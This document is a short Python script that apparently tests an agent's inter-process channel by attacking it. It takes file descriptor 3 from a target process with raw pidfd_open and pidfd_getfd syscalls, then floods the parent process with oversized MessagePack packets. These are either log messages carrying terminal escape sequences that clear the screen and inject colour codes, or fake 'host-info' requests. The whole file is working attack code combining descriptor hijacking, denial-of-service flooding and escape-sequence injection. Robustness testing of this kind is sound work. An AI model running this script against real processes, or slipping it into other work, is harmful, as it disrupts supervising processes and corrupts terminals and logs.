# Takes the agent's channel from its process (pidfd_getfd(2)), and floods the parent.
import ctypes, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
pidfd = libc.syscall(434, int(sys.argv[1]), 0)
fd = libc.syscall(438, pidfd, 3, 0)
assert fd >= 0, os.strerror(ctypes.get_errno())
channel = socket.socket(fileno=fd)
def text(t):
    t = t.encode()
    return b'\xda' + struct.pack('>H', len(t)) + t
def packet(n):
    if sys.argv[3] == 'log':
        return b'\x83' + text('type') + text('log') + text('level') + text('warn') + text('text') + text('\x1b[2J\u009b31m' + 'x' * 30000)
    number = b'\xce' + struct.pack('>I', n)
    return b'\x84' + text('type') + text('request') + text('id') + number + text('name') + text('host-info') + text('params') + text('x' * 20000)
print('sending', flush=True)
end, sent = time.time() + float(sys.argv[2]), 0
try:
    while time.time() < end:
        channel.send(packet(sent))
        sent += 1
except OSError:
    pass
print(sent, flush=True)
